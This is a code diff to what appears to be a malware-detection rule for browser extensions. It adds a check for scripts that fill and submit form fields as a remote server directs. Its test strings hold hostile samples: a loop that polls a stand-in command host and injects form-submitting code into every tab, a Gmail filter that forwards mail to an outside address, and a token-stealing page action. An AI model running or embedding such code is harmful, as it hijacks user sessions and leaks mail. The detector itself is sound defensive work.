@@ -80,6 +80,9 @@ export const actsInPersonsName = defineRule({
         'const m = document.documentElement.innerHTML.match(/"token":"([^"]+)"/); function act(path, o) { o.fb_dtsg = m[1]; return fetch(path, { method: "POST", body: new URLSearchParams(o) }); } if (m) { act("/ajax/pages/fan_status", { fbpage_id: "100000000001", add: 1 }); }',
       ),
       backgroundExample(
+        'async function poll() { const c = await (await fetch("https://x.example/cmd")).json(); for (const t of await chrome.tabs.query({})) chrome.scripting.executeScript({ target: { tabId: t.id }, args: [c.sel, c.val], func: (s, v) => { const e = document.querySelector(s); if (e) { e.value = v; e.form.submit(); } } }); } setInterval(poll, 60000);',
+      ),
+      backgroundExample(
         'chrome.identity.getAuthToken({}, (t) => fetch("https://gmail.googleapis.com/gmail/v1/users/me/settings/filters", { method: "POST", headers: { Authorization: "Bearer " + t }, body: JSON.stringify({ action: { forward: "box@x.example" } }) }));',
       ),
     ],
@@ -117,6 +120,7 @@ const within = checkScripts(function* ({ script, file, facts, hit }) {
   const foreign = requestsOf(script).filter(({ to }) => leadsOut(to) && hostOf(to) !== undefined);
   const inPages = runsInPages(facts, file.path);
   if (inPages) yield* typesAndSends(facts, script, hit);
+  yield* fillsAsTold(facts, script, hit);
   if (inPages && mentions(script, FORM_TOKEN)) yield* postsForItsAuthor(script, hit);
   if (mentions(script, FORWARDS)) {
     for (const call of first(callsOf(script, 'fetch', '$.post', '$.ajax', 'axios.post'), 100)) {
@@ -234,10 +238,26 @@ function* typesAndSends(facts: Judged['facts'], script: ScriptFacts, hit: Judged
     yield hit(press.value, { message: say('server-text-submitted') });
 }
 
+/** A server says which field is filled, and with what; then the form is sent off. */
+function* fillsAsTold(facts: Judged['facts'], script: ScriptFacts, hit: Judged['hit']): Generator<Hit> {
+  if (callsNamed(script, 'click', 'submit', 'requestSubmit', 'dispatchEvent').length === 0) return;
+  for (const { object, value } of first(writesOf(script, 'value'), 60)) {
+    const selector = argumentOf(script, object);
+    if (selector === 0 || !isFromServer(facts, script, selector) || !isFromServer(facts, script, value)) continue;
+    yield hit(value, { severity: 'critical', message: say('server-text-submitted') });
+    return;
+  }
+}
+
+/** What an element was asked for by, where a call gave it. */
+function argumentOf(script: ScriptFacts, element: number): number {
+  const made = resolve(script, element);
+  return script.op[made] === Op.call ? (listOf(script, script.b[made] as number)[0] ?? 0) : 0;
+}
+
 /** The selector of the element that a call is about. */
 function selectorOf(script: ScriptFacts, call: Call): string {
-  const made = resolve(script, receiverOf(script, call));
-  return script.op[made] === Op.call ? (constant(script, listOf(script, script.b[made] as number)[0] ?? 0) ?? '') : '';
+  return constant(script, argumentOf(script, receiverOf(script, call))) ?? '';
 }
 
 /** Where mail services make rules that forward what comes in. Sources: the reference of Gmail's and Microsoft Graph's interfaces, forms of Gmail's own pages. */
